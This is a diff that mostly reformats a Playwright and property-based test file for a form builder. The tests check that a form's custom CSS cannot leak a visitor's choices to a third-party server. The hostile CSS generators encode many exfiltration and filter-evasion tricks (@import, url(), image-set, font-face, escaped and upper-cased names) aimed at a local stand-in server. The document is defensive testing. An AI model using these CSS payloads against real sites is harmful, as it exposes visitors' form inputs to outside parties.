@@ -10,7 +10,7 @@ import { loggedInPage } from './support/session';
 import { logInByApi, publishForm, type Owner, type PublishedForm } from './support/public-form-api';
 import { PNG } from './support/public-form-fixtures';
 
-// Issue #8, F5: a form's custom CSS must not let the public page reach a third party,
+// A form's custom CSS must not let the public page reach a third party,
 // which would learn a visitor's choices before (or without) any submission. A second
 // local HTTP server, on another port, stands in for the third party.
 
@@ -42,7 +42,8 @@ const HEADERS = PAYLOADS.length;
 
 function hostileCss(thirdParty: string): string {
   const rules = PAYLOADS.map(
-    ([name, declarations], index) => `.fb-form:has(:checked, :focus) .fb-page > :nth-child(${String(index + 1)}) { ${declarations(`${thirdParty}/${name}`)} }`,
+    ([name, declarations], index) =>
+      `.fb-form:has(:checked, :focus) .fb-page > :nth-child(${String(index + 1)}) { ${declarations(`${thirdParty}/${name}`)} }`,
   );
   return [
     `@import url(${thirdParty}/import.css);`,
@@ -65,7 +66,7 @@ const hostileProps = {
   ],
 };
 
-describe('hostile custom CSS on the public page (issue #8, F5)', () => {
+describe('hostile custom CSS on the public page', () => {
   const stage = stageForTests(['owner@example.com']);
   let app: RunningApp;
   let browser: Browser;
@@ -88,8 +89,11 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
   });
   afterAll(() => thirdParty?.close());
 
-  /** Opens the page, records every request it makes, and answers with them. */
-  async function open(url: string, options: Parameters<Browser['newContext']>[0] = {}): Promise<{ context: BrowserContext; page: Page; requests: string[] }> {
+  /** Opens the page, records every request it makes, and returns them. */
+  async function open(
+    url: string,
+    options: Parameters<Browser['newContext']>[0] = {},
+  ): Promise<{ context: BrowserContext; page: Page; requests: string[] }> {
     const context = await browser.newContext({ viewport: { width: 1024, height: 800 }, ...options });
     const page = await context.newPage();
     const requests: string[] = [];
@@ -110,7 +114,8 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
     await page.waitForTimeout(1000);
   }
 
-  const outside = (requests: string[]) => requests.filter((url) => !url.startsWith(`${app.url}/`) && !url.startsWith('data:'));
+  const outside = (requests: string[]) =>
+    requests.filter((url) => !url.startsWith(`${app.url}/`) && !url.startsWith('data:'));
 
   it('in a control page given the same CSS unfiltered, Chromium does call the stand-in', async () => {
     const plain = await publishForm(owner, 'Plain', hostileProps);
@@ -121,8 +126,25 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
     await fillIn(page);
     const called = hits.map((hit) => hit.slice(1));
     // What Chromium (156) honours of the list; fonts are left out, their load is lazier.
-    const honoured = ['import.css', 'escaped-import.css', 'custom-property', 'escaped-custom-property', 'var-fallback', 'hex-escape', 'plain-escape'];
-    honoured.push('hex-space-escape', 'capitals', 'escaped-scheme', 'image-set', 'webkit-image-set', 'escaped-image-set', 'mask', 'content');
+    const honoured = [
+      'import.css',
+      'escaped-import.css',
+      'custom-property',
+      'escaped-custom-property',
+      'var-fallback',
+      'hex-escape',
+      'plain-escape',
+    ];
+    honoured.push(
+      'hex-space-escape',
+      'capitals',
+      'escaped-scheme',
+      'image-set',
+      'webkit-image-set',
+      'escaped-image-set',
+      'mask',
+      'content',
+    );
     expect(called).toEqual(expect.arrayContaining(honoured));
     expect(outside(requests).length).toBeGreaterThan(0);
     await context.close();
@@ -131,7 +153,10 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
   describe('the published form with that CSS', () => {
     let hostile: PublishedForm;
     beforeAll(async () => {
-      hostile = await publishForm(owner, 'Hostile', { ...hostileProps, customCSS: { value: hostileCss(thirdPartyUrl), isEncoded: false } });
+      hostile = await publishForm(owner, 'Hostile', {
+        ...hostileProps,
+        customCSS: { value: hostileCss(thirdPartyUrl), isEncoded: false },
+      });
     });
 
     it('calls nobody but the server, even with the page CSP switched off (the filter alone)', async () => {
@@ -154,47 +179,80 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
     });
   });
 
-  // Issue #15: declarations generated from the ways CSS can name a resource (functions, at-rules,
+  // Declarations generated from the ways CSS can name a resource (functions, at-rules,
   // custom properties, fallbacks) written with escapes, odd case, quotes and comments; the
   // filter alone (page CSP off) must keep every one from reaching the third party, and so must
   // the page as served, under its CSP.
   it('calls nobody but the server with generated hostile declarations, by the filter alone and under the CSP', async () => {
     const escape = (text: string) =>
-      fc.array(fc.constantFrom('plain', 'hex', 'hex-space', 'upper', 'backslash'), { minLength: text.length, maxLength: text.length }).map((ways) =>
-        [...text]
-          .map((char, i) => {
-            const way = /[a-z]/i.test(char) ? ways[i] : 'plain';
-            if (way === 'hex') return `\\${char.charCodeAt(0).toString(16)}`;
-            if (way === 'hex-space') return `\\${char.charCodeAt(0).toString(16).padStart(6, '0')} `;
-            if (way === 'upper') return char.toUpperCase();
-            if (way === 'backslash' && !/[a-f]/i.test(char)) return `\\${char}`;
-            return char;
-          })
-          .join(''),
-      );
+      fc
+        .array(fc.constantFrom('plain', 'hex', 'hex-space', 'upper', 'backslash'), {
+          minLength: text.length,
+          maxLength: text.length,
+        })
+        .map((ways) =>
+          [...text]
+            .map((char, i) => {
+              const way = /[a-z]/i.test(char) ? ways[i] : 'plain';
+              if (way === 'hex') return `\\${char.charCodeAt(0).toString(16)}`;
+              if (way === 'hex-space') return `\\${char.charCodeAt(0).toString(16).padStart(6, '0')} `;
+              if (way === 'upper') return char.toUpperCase();
+              if (way === 'backslash' && !/[a-f]/i.test(char)) return `\\${char}`;
+              return char;
+            })
+            .join(''),
+        );
     const quoted = (url: string) => fc.constantFrom(url, `"${url}"`, `'${url}'`, ` ${url} `, `/**/"${url}"/**/`);
     const resource = (url: string) =>
       fc.oneof(
         fc.tuple(escape('url'), quoted(url)).map(([fn, arg]) => `${fn}(${arg})`),
-        fc.tuple(fc.constantFrom('image-set', '-webkit-image-set'), quoted(url)).chain(([fn, arg]) => escape(fn).map((name) => `${name}(${arg} 1x)`)),
+        fc
+          .tuple(fc.constantFrom('image-set', '-webkit-image-set'), quoted(url))
+          .chain(([fn, arg]) => escape(fn).map((name) => `${name}(${arg} 1x)`)),
         fc.tuple(escape('image'), quoted(url)).map(([fn, arg]) => `${fn}(${arg})`),
         fc.tuple(escape('src'), quoted(url)).map(([fn, arg]) => `image-set(${fn}(${arg}) 1x)`),
       );
     const declaration = (url: string, index: number) =>
       fc.oneof(
-        fc.tuple(fc.constantFrom('background-image', 'background', 'list-style-image', 'border-image-source', 'mask-image', '-webkit-mask-image', 'shape-outside'), resource(url)).chain(([property, value]) =>
-          escape(property).map((name) => `${name}: ${value}`),
-        ),
+        fc
+          .tuple(
+            fc.constantFrom(
+              'background-image',
+              'background',
+              'list-style-image',
+              'border-image-source',
+              'mask-image',
+              '-webkit-mask-image',
+              'shape-outside',
+            ),
+            resource(url),
+          )
+          .chain(([property, value]) => escape(property).map((name) => `${name}: ${value}`)),
         resource(url).map((value) => `cursor: ${value}, auto`),
         resource(url).map((value) => `--gen${index}: ${value}; background-image: var(--gen${index})`),
         resource(url).map((value) => `background-image: var(--none${index}, ${value})`),
       );
-    const sheet = fc.tuple(...Array.from({ length: HEADERS }, (_, index) => declaration(`${thirdPartyUrl}/gen-${index}`, index)), fc.constantFrom('import', 'font-face'), escape('import'), quoted(`${thirdPartyUrl}/gen-import.css`)).map((parts) => {
-      const declarations = parts.slice(0, HEADERS);
-      const [atRule, importName, importUrl] = parts.slice(HEADERS) as [string, string, string];
-      const head = atRule === 'import' ? `@${importName} ${importUrl};` : `@font-face { font-family: gen; src: url(${importUrl}) } .fb-form:has(:focus) .fb-label { font-family: gen }`;
-      return [head, ...declarations.map((text, index) => `.fb-form:has(:checked, :focus) .fb-page > :nth-child(${index + 1}) { ${text} }`)].join('\n');
-    });
+    const sheet = fc
+      .tuple(
+        ...Array.from({ length: HEADERS }, (_, index) => declaration(`${thirdPartyUrl}/gen-${index}`, index)),
+        fc.constantFrom('import', 'font-face'),
+        escape('import'),
+        quoted(`${thirdPartyUrl}/gen-import.css`),
+      )
+      .map((parts) => {
+        const declarations = parts.slice(0, HEADERS);
+        const [atRule, importName, importUrl] = parts.slice(HEADERS) as [string, string, string];
+        const head =
+          atRule === 'import'
+            ? `@${importName} ${importUrl};`
+            : `@font-face { font-family: gen; src: url(${importUrl}) } .fb-form:has(:focus) .fb-label { font-family: gen }`;
+        return [
+          head,
+          ...declarations.map(
+            (text, index) => `.fb-form:has(:checked, :focus) .fb-page > :nth-child(${index + 1}) { ${text} }`,
+          ),
+        ].join('\n');
+      });
 
     const plain = await publishForm(owner, 'Generated control', hostileProps);
     await fc.assert(
@@ -207,7 +265,10 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
         await control.context.close();
         expect(hits.length).toBeGreaterThan(0);
 
-        const form = await publishForm(owner, 'Generated', { ...hostileProps, customCSS: { value: css, isEncoded: false } });
+        const form = await publishForm(owner, 'Generated', {
+          ...hostileProps,
+          customCSS: { value: css, isEncoded: false },
+        });
         // The filter alone (page CSP off), then the page as visitors get it (filter and CSP).
         for (const bypassCSP of [true, false]) {
           hits.length = 0;
@@ -224,7 +285,12 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
 
   it("lets the owner's own picture load, and nothing else from its site (the CSP alone)", async () => {
     // First on the page: the picture is lazy, and must be in view to load.
-    const props = { elements: [{ id: 5, type: 'Image', label: 'Logo', uploadedImageUrl: `${thirdPartyUrl}/owner-logo.png` }, ...hostileProps.elements] };
+    const props = {
+      elements: [
+        { id: 5, type: 'Image', label: 'Logo', uploadedImageUrl: `${thirdPartyUrl}/owner-logo.png` },
+        ...hostileProps.elements,
+      ],
+    };
     const pictured = await publishForm(owner, 'Pictured', props);
     hits.length = 0;
     const { context, page } = await open(pictured.url);
@@ -241,7 +307,7 @@ describe('hostile custom CSS on the public page (issue #8, F5)', () => {
   });
 });
 
-describe("regenerating a private form's link in the share panel (issue #8)", () => {
+describe("regenerating a private form's link in the share panel", () => {
   const stage = stageForTests(['owner@example.com']);
   let app: RunningApp;
   let browser: Browser;
@@ -252,10 +318,18 @@ describe("regenerating a private form's link in the share panel (issue #8)", () 
     const created = await fetch(`${app.url}/api/users/${String(owner.userId)}/forms`, {
       method: 'POST',
       headers: { authorization: `Bearer ${owner.token}`, 'content-type': 'application/json' },
-      body: JSON.stringify({ id: null, title: 'Staff survey', private: 1, props: { elements: [{ id: 1, type: 'TextBox', label: 'Team' }] } }),
+      body: JSON.stringify({
+        id: null,
+        title: 'Staff survey',
+        private: 1,
+        props: { elements: [{ id: 1, type: 'TextBox', label: 'Team' }] },
+      }),
     });
     const { id } = (await created.json()) as { id: number };
-    await fetch(`${app.url}/api/users/${String(owner.userId)}/forms/${String(id)}/publish`, { method: 'POST', headers: { authorization: `Bearer ${owner.token}` } });
+    await fetch(`${app.url}/api/users/${String(owner.userId)}/forms/${String(id)}/publish`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${owner.token}` },
+    });
 
     const { context, page } = await loggedInPage(browser, app.url, 'owner@example.com');
     await page.goto(`${app.url}/editor/${String(id)}/share`);
